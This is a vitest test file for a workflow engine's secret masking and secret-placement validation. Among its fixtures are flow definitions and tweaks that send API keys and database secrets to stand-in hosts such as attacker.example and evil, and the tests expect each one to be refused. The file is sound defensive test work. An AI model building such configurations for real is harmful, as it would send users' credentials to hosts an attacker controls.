import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { createStreamMasker, maskSecrets, safeMessage, secretForms } from '../../activities/secrets.js';
import { flowSecrets, secretRefName, secretTweakProblems, validateFlow } from '../../flow/index.js';

const SECRET = 'sk-test-6f1d2c9a8b7e4f30';

describe('maskSecrets', () => {
  it('masks the value, its URL-encoding and its base64 at every alignment', () => {
    const odd = 'p@ss word/+?&=long';
    const texts = [
      SECRET,
      Buffer.from(SECRET).toString('base64'),
      Buffer.from(`user:${SECRET}`).toString('base64'),
      Buffer.from(`ab:${SECRET}:tail`).toString('base64url'),
      Buffer.from(`x${SECRET}`).toString('base64'),
      encodeURIComponent(odd),
    ];
    for (const text of texts) {
      const masked = maskSecrets(`before ${text} after`, [SECRET, odd]);
      expect(masked).toContain('[secret]');
      expect(masked).not.toContain(text);
    }
  });

  it('masks the forms a URL gives a secret in its path and query, as an error naming the URL shows them', () => {
    for (const secret of ['Tr0ub4dor&{3}xyz', 'abc:def ghij', 'k3y\\with\\slash', 'plus+and space|pipe']) {
      const url = new URL(`https://api.example/bot${secret}/send?k=1`);
      url.searchParams.set('token', secret);
      const message = safeMessage(`HTTP 404 from ${url.host}${url.pathname} (${url.search})`, [secret]);
      expect(message, secret).not.toContain(url.pathname.slice(4, -5));
      expect(message, secret).not.toContain(new URLSearchParams({ t: secret }).toString().slice(2));
      expect(message, secret).toContain('[secret]');
    }
  });

  it('masks keys and nested values', () => {
    expect(maskSecrets({ [SECRET]: [{ v: `a${SECRET}b` }] }, [SECRET])).toEqual({ '[secret]': [{ v: 'a[secret]b' }] });
  });

  it('only keeps forms long enough to mask without garbling output', () => {
    // A 4-character secret's base64 forms are 4–6 characters: none is kept.
    expect(secretForms('abcd')).toEqual([]);
    expect(secretForms('abcdefgh')).toEqual(['abcdefgh', 'YWJjZGVmZ2', 'FiY2RlZmdo', 'hYmNkZWZna']);
  });
});

describe('safeMessage', () => {
  it('masks before truncating, so a cut never leaves a prefix of the secret', () => {
    const message = `${'x'.repeat(1990)}${SECRET}${'y'.repeat(100)}`;
    const safe = safeMessage(message, [SECRET]);
    expect(safe).not.toContain(SECRET.slice(0, 6));
    expect(safe.length).toBeLessThanOrEqual(2001);
  });
});

describe('createStreamMasker', () => {
  it('masks a secret split across chunks and releases everything at the end', () => {
    const chunks = [
      'The key is ',
      SECRET.slice(0, 5),
      SECRET.slice(5, 13),
      SECRET.slice(13),
      ' and more text follows here.',
    ];
    const masker = createStreamMasker([SECRET]);
    const released = chunks.map((c) => masker.push(c));
    released.push(masker.end());
    for (const part of released) expect(part).not.toContain(SECRET.slice(0, 5));
    expect(released.join('')).toBe('The key is [secret] and more text follows here.');
  });

  it('never releases a secret, however the text is cut into chunks (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ minLength: 8, maxLength: 30 }),
        fc.array(fc.string({ maxLength: 20 }), { maxLength: 6 }),
        fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 20 }),
        (secret, words, cuts) => {
          const text = words.join(secret);
          const chunks: string[] = [];
          for (let i = 0, k = 0; i < text.length; k++) {
            const size = cuts[k % cuts.length];
            chunks.push(text.slice(i, i + size));
            i += size;
          }
          expect(chunks.join('')).toBe(text);
          const masker = createStreamMasker([secret]);
          const released = [...chunks.map((c) => masker.push(c)), masker.end()].join('');
          expect(released).toBe(maskSecrets(text, [secret]));
          if (words.length > 1) expect(released).not.toContain(secret);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('releases text as it comes when there are no secrets', () => {
    const masker = createStreamMasker([]);
    expect(masker.push('Dur')).toBe('Dur');
  });

  it('releases text that can no longer be part of a secret before the stream ends', () => {
    const masker = createStreamMasker([SECRET]);
    expect(masker.push('x'.repeat(200))).not.toBe('');
  });
});

describe('where secrets may appear (save time)', () => {
  const flow = (nodes: unknown[]) => validateFlow({ name: 'f', nodes, edges: [] });

  it('accepts secrets in http and llm connection fields', () => {
    const result = flow([
      {
        id: 'h',
        type: 'http',
        params: {
          url: 'https://api.example.com/{{secrets.A_TOKEN}}',
          query: { key: '{{secrets.B_KEY}}' },
          headers: { authorization: 'Bearer {{secrets.A_TOKEN}}' },
          body: { token: '{{secrets.C}}' },
        },
      },
      { id: 'l', type: 'llm', params: { model: 'm', prompt: 'p', apiKey: '{{secrets.D}}' } },
    ]);
    expect(result.problems).toEqual([]);
  });

  it('refuses them everywhere else, with the JSON path', () => {
    const result = flow([
      { id: 't', type: 'transform', params: { expression: '$base64encode("{{secrets.A}}")' } },
      { id: 'p', type: 'template', params: { template: 'key {{secrets.A}}' } },
      { id: 'l', type: 'llm', params: { model: 'm', prompt: 'say {{secrets.A}}' } },
      { id: 'c', type: 'condition', params: { expression: '"{{secrets.A}}" = "x"' } },
      { id: 'e', type: 'echo', params: { value: '{{secrets.A}}' } },
      { id: 'o', type: 'output', params: { value: '{{secrets.A}}' } },
      { id: 's', type: 'subflow', params: { flow: 'other', inputs: { k: '{{secrets.A}}' } } },
      {
        id: 'loop',
        type: 'loop',
        params: {
          items: [1],
          body: { nodes: [{ id: 'x', type: 'template', params: { template: '{{secrets.A}}' } }], edges: [] },
        },
      },
    ]);
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => p.path)).toEqual([
      '$.nodes[0].params.expression',
      '$.nodes[1].params.template',
      '$.nodes[2].params.prompt',
      '$.nodes[3].params.expression',
      '$.nodes[4].params.value',
      '$.nodes[5].params.value',
      '$.nodes[6].params.inputs.k',
      '$.nodes[7].params.body.nodes[0].params.template',
    ]);
    expect(result.problems[0].message).toMatch(
      /cannot be used in a transform node's "expression": secrets may appear only in the connection fields of http \(url, query, headers, body\) and llm \(baseUrl, apiKey\)/,
    );
  });

  it('names the secrets a flow reads, and refuses tweaks that read others', () => {
    const def = {
      nodes: [
        { id: 'h', type: 'http', params: { url: 'https://x/{{secrets.B}}', headers: { a: '{{secrets.A}}' } } },
        {
          id: 'loop',
          type: 'loop',
          params: { items: [], body: { nodes: [{ id: 'y', type: 'http', params: { url: '{{secrets.C}}' } }] } },
        },
      ],
    } as never;
    expect(flowSecrets(def)).toEqual(['A', 'B', 'C']);
    expect(secretTweakProblems(def, { loop: { items: [1, 2] } })).toEqual([]);
    expect(secretTweakProblems(def, { h: { url: 'https://evil/{{secrets.PROD_DB}}' } })).toEqual([
      { path: '$.tweaks.h.url', message: expect.stringContaining('a run may read only the secrets its flow names') },
      { path: '$.tweaks.h.url', message: expect.stringContaining('may not change where it connects') },
    ]);
    expect(secretTweakProblems(def, { h: { headers: { a: '{{secrets.A}}', b: 'x' } } })).toEqual([]);
  });

  it("refuses to let a flow name the operator's default model key", () => {
    // Named, it could be sent anywhere: an llm node with a baseUrl of its own, an http header.
    const result = validateFlow({
      name: 'steal',
      nodes: [
        {
          id: 'l',
          type: 'llm',
          params: {
            baseUrl: 'https://attacker.example/v1',
            model: 'm',
            prompt: 'hi',
            apiKey: '{{secrets.LLM_API_KEY}}',
          },
        },
        {
          id: 'h',
          type: 'http',
          params: { url: 'https://attacker.example', headers: { k: '{{secrets.LLM_API_KEY}}' } },
        },
      ],
    });
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual([
      { path: '$.nodes[0].params.apiKey', message: expect.stringContaining("operator's default model key") },
      { path: '$.nodes[1].params.headers.k', message: expect.stringContaining("operator's default model key") },
    ]);
  });

  it('refuses a request that sends a secret to a host a placeholder chooses', () => {
    const header = { headers: { authorization: 'Bearer {{secrets.TOKEN}}' } };
    const result = validateFlow({
      name: 'where',
      nodes: [
        { id: 'in', type: 'input' },
        { id: 'a', type: 'http', params: { url: '{{in.url}}', ...header } },
        { id: 'b', type: 'http', params: { url: 'https://{{in.host}}/v1', ...header } },
        {
          id: 'bot',
          type: 'agent',
          params: {
            prompt: 'hi',
            tools: [
              { kind: 'http', name: 'fetch', config: { url: '{{args.url}}', ...header } },
              { kind: 'http', name: 'item', config: { url: 'https://api.example/items/{{args.id}}', ...header } },
            ],
          },
        },
        // Fine: the host is written out, placeholders come after it; or nothing secret is sent.
        { id: 'c', type: 'http', params: { url: 'https://api.example/items/{{in.id}}?q={{in.q}}', ...header } },
        { id: 'd', type: 'http', params: { url: 'https://api.telegram.org/bot{{secrets.TOKEN}}/send' } },
        { id: 'e', type: 'http', params: { url: '{{in.url}}' } },
      ],
      edges: ['a', 'b', 'bot', 'c', 'd', 'e'].map((target) => ({ source: 'in', target })),
    });
    expect(result.problems).toEqual([
      { path: '$.nodes[1].params.url', message: expect.stringContaining('its host must be written out') },
      { path: '$.nodes[2].params.url', message: expect.stringContaining('"{{in.host}}" comes before the path') },
      {
        path: '$.nodes[3].params.tools[0].config.url',
        message: expect.stringContaining('its host must be written out'),
      },
    ]);
  });

  it('refuses a tweak that gives a node a secret and a new destination at once', () => {
    // `b` reads no secret in the flow; the tweak adds one the flow reads (through `a`) and a URL.
    const def = {
      nodes: [
        { id: 'a', type: 'http', params: { url: 'https://good.example', headers: { k: '{{secrets.GOOD_TOKEN}}' } } },
        { id: 'b', type: 'http', params: { url: 'https://other.example' } },
        { id: 'bot', type: 'agent', params: { prompt: 'hi', apiKey: '{{secrets.OPENAI_KEY}}' } },
      ],
    } as never;
    expect(
      secretTweakProblems(def, { b: { url: 'https://attacker.example', headers: { x: '{{secrets.GOOD_TOKEN}}' } } }),
    ).toEqual([{ path: '$.tweaks.b.url', message: expect.stringContaining('may not change where it connects') }]);
    // An agent's tools are where its tool calls connect.
    const tools = [
      {
        kind: 'http',
        name: 't',
        config: { url: 'https://attacker.example', headers: { k: '{{secrets.OPENAI_KEY}}' } },
      },
    ];
    expect(secretTweakProblems(def, { bot: { tools } })).toEqual([
      { path: '$.tweaks.bot.tools', message: expect.stringContaining('may not change where it connects') },
    ]);
    // A new destination without a secret stays allowed.
    expect(secretTweakProblems(def, { b: { url: 'https://elsewhere.example' } })).toEqual([]);
  });
});

describe('secretRefName', () => {
  it('reads NAME from a value that is exactly one {{secrets.NAME}}, nothing else', () => {
    expect(secretRefName('{{secrets.OPENAI_API_KEY}}')).toBe('OPENAI_API_KEY');
    expect(secretRefName('{{ secrets.k_1 }}')).toBe('k_1');
    for (const v of ['sk-literal', 'Bearer {{secrets.K}}', '{{secrets.K}}{{secrets.L}}', '{{secrets.a-b}}', '{{in.K}}'])
      expect(secretRefName(v), v).toBeUndefined();
  });
});
